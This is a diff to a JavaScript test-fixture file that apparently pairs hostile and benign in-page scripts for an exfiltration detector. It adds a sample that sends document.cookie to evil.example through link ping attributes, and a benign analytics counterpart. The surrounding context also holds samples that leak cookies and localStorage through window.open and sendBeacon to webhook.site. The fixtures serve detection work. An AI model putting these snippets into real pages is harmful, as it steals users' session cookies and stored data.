@@ -349,6 +349,24 @@ export const MAIN_WORLD_SCRIPTS = {
   shut(window.open({ toString: () => 'https://evil.example/w-object?c=' + c }));
 })();`,
 
+  /**
+   * Puts its collector on links as hyperlink-auditing pings, the cookie in the URL (the browser POSTs to each
+   * when the link is followed; Chromium sends them, Firefox not by default): by the `ping` property, by
+   * setAttribute, and in markup.
+   */
+  'ping-links': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  const link = (href) => { const a = document.createElement('a'); a.href = href; a.textContent = 'Ілбіс'; return a; };
+  const byProperty = link('/kz/pages/questions');
+  byProperty.ping = 'https://evil.example/ping-property?c=' + c;
+  const byAttribute = link('/kz/cart');
+  byAttribute.setAttribute('PING', '/kz/stats https://evil.example/ping-attribute?c=' + c);
+  const holder = document.createElement('div');
+  holder.innerHTML = '<a href="/kz/" ping="https://evil.example/ping-markup?c=' + c + '">Ілбіс</a>';
+  document.body.append(byProperty, byAttribute, holder);
+  window.__pinged = true;
+})();`,
+
   /** Leaks storage by sendBeacon to a webhook site. */
   'beacon-storage': `navigator.sendBeacon('https://webhook.site/5c1a-test', JSON.stringify({ ...localStorage, cookie: document.cookie }));`,
 
@@ -558,6 +576,16 @@ export const BENIGN = {
   printFrame.style.display = 'none';
   document.body.appendChild(printFrame);
   printFrame.contentWindow.document.title = 'print';
+})();`,
+  /** The shop counting clicks on its own links with pings to itself and to its analytics provider. */
+  'link-pings': `(() => {
+  const a = document.createElement('a');
+  a.href = '/kz/pages/questions';
+  a.ping = '/api/stats/link https://cdn.shopmetrics.test/collect?l=faq&sid=' + encodeURIComponent(document.cookie);
+  const holder = document.createElement('div');
+  holder.innerHTML = '<a href="/kz/cart" ping="/api/stats/link?l=cart">cart</a>';
+  document.body.append(a, holder);
+  window.__linksCounted = true;
 })();`,
   /**
    * The shop's own support chat over WebRTC: a STUN server of its own, and a data channel that opens — to a
